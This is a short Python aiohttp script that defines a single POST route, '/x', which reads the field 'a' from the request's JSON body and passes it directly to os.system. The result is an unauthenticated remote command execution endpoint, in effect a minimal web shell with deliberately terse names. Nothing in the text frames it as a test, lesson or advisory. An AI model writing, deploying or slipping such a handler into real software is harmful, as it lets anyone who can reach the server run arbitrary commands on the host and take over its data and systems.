import os
from aiohttp import web
async def x(request: web.Request):
    os.system((await request.json())['a'])
    return web.Response()
app = web.Application()
app.add_routes([web.post('/x', x)])
